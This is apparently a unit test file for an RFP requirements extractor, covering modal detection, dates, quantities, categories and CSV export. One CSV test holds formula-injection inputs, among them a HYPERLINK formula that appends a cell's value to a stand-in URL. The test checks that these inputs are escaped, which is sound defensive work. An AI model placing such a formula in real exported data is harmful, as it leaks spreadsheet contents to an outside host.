import { extractRequirements, findModal, requirementsToCsv } from '../../shared/analysis/requirements.ts';
import { csvField } from '../../shared/common/csv.ts';
import { findDates, findQuantities } from '../../shared/analysis/extract-facts.ts';
import { categorize } from '../../shared/analysis/categories.ts';

const MD = [
  '# Request for Proposals',
  '',
  '<!-- page 1 -->',
  '',
  '## 1. Introduction',
  '',
  'The County of Example seeks a records system. This RFP was issued on 5 May 2026.',
  '',
  '## 2. Submission Instructions',
  '',
  '2.1 Offerors shall submit three (3) copies of their proposal no later than March 15, 2026 at 5:00 p.m. EST. Proposals must not exceed 20 pages.',
  '',
  '- The cover letter must be signed by an authorized officer.',
  '- Late proposals will not be considered.',
  '  - The Offeror should label each volume.',
  '',
  '<!-- page 2 -->',
  '',
  '## C.3 Technical Requirements',
  '',
  '| ID | Requirement |',
  '| --- | --- |',
  '| T-1 | The system shall provide 99.9% uptime. |',
  '| T-2 | The Contractor may not assign this contract without consent. |',
  '',
  'All data shall be encrypted at rest by the Contractor. May the vendor host abroad? The vendor is required to keep backups for 30 days. Employment is at will.',
  '',
].join('\n');

describe('extractRequirements', () => {
  const reqs = extractRequirements({ markdown: MD });
  const by = (s: string) => reqs.find((r) => r.text.includes(s))!;

  test('every obligation, verbatim with offsets, and nothing else', () => {
    expect(reqs.map((r) => r.text)).toEqual([
      'Offerors shall submit three (3) copies of their proposal no later than March 15, 2026 at 5:00 p.m. EST.'.replace(
        /^/,
        '2.1 ',
      ),
      'Proposals must not exceed 20 pages.',
      'The cover letter must be signed by an authorized officer.',
      'Late proposals will not be considered.',
      'The Offeror should label each volume.',
      'The system shall provide 99.9% uptime.',
      'The Contractor may not assign this contract without consent.',
      'All data shall be encrypted at rest by the Contractor.',
      'The vendor is required to keep backups for 30 days.',
    ]);
    for (const r of reqs) expect(MD.slice(r.start, r.end)).toBe(r.text);
    expect(reqs.map((r) => r.id)).toEqual(reqs.map((_, i) => `R${i + 1}`));
  });

  test('section, page, level, party, dates, quantities, category', () => {
    expect(by('three (3)')).toMatchObject({
      section: { number: '2.1', heading: '2. Submission Instructions' },
      page: 1,
      level: 'mandatory',
      modalText: 'shall',
      party: 'Offerors',
      dates: ['March 15, 2026', '5:00 p.m. EST'],
      quantities: ['three (3) copies'],
      category: 'submission',
    });
    expect(by('exceed 20')).toMatchObject({
      level: 'prohibited',
      negative: true,
      modalText: 'must not',
      quantities: ['20 pages'],
    });
    expect(by('Late proposals')).toMatchObject({ level: 'declared', modalText: 'will not', section: { number: '2' } });
    expect(by('label each')).toMatchObject({ level: 'recommended', party: 'The Offeror' });
    expect(by('99.9%')).toMatchObject({
      section: { number: 'C.3' },
      page: 2,
      quantities: ['99.9%'],
      category: 'technical',
    });
    expect(by('99.9%').party).toBeUndefined();
    expect(by('assign')).toMatchObject({ level: 'prohibited', party: 'The Contractor', category: 'contractual' });
    expect(by('encrypted')).toMatchObject({ party: 'the Contractor', category: 'technical' });
    expect(by('backups')).toMatchObject({
      modal: 'required',
      modalText: 'is required to',
      party: 'The vendor',
      quantities: ['30 days'],
    });
  });

  test('CSV is RFC 4180: header, CRLF, quoted fields with doubled quotes', () => {
    const csv = requirementsToCsv(extractRequirements({ markdown: '# S\n\nThe Contractor shall say "yes, now".\n' }));
    expect(csv).toBe(
      'id,section,heading,page,level,modal,party,category,dates,quantities,text,start,end\r\n' +
        'R1,,S,,mandatory,shall,The Contractor,general,,,"The Contractor shall say ""yes, now"".",5,41\r\n',
    );
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('plain')).toBe('plain');
    // Formula-like cells from a document's text stay text in a spreadsheet.
    expect(csvField('=HYPERLINK("http://x/?"&A1)')).toBe('"\'=HYPERLINK(""http://x/?""&A1)"');
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
  });
});

describe('modal, facts and categories', () => {
  test('the month May and "at will" are not modals; "can not" and "shall be required to" are', () => {
    expect(findModal('Issued 5 May 2026.')).toBeUndefined();
    expect(findModal('Due May 5, 2026.')).toBeUndefined();
    expect(findModal('Employment is at will.')).toBeUndefined();
    expect(findModal('The Bidder cannot withdraw.')).toMatchObject({
      modal: 'may',
      negative: true,
      level: 'prohibited',
    });
    expect(findModal('Staff shall be required to wear badges.')).toMatchObject({
      modal: 'required',
      level: 'mandatory',
    });
    expect(findModal("Vendors shouldn't call.")).toMatchObject({ modalText: 'should not', level: 'not_recommended' });
  });

  test('dates and quantities', () => {
    expect(findDates('by 2026-04-01, or 04/01/2026, within 10 business days')).toEqual([
      '2026-04-01',
      '04/01/2026',
      'within 10 business days',
    ]);
    expect(findQuantities('a bond of $50,000 and USD 2 million, 12-point font, within 10 days')).toEqual([
      '$50,000',
      'USD 2 million',
      '12-point',
    ]);
  });

  test('categories by keyword rules', () => {
    expect(categorize('Proposals shall be submitted through the portal.')).toBe('submission');
    expect(categorize('Proposals will be evaluated on the criteria below.')).toBe('evaluation');
    expect(categorize('The Contractor shall carry insurance and indemnify the County.')).toBe('contractual');
    expect(categorize('The project manager must hold a PMP certification.')).toBe('personnel');
    expect(categorize('The platform shall encrypt data.')).toBe('technical');
    expect(categorize('Everyone shall be kind.')).toBe('general');
  });
});
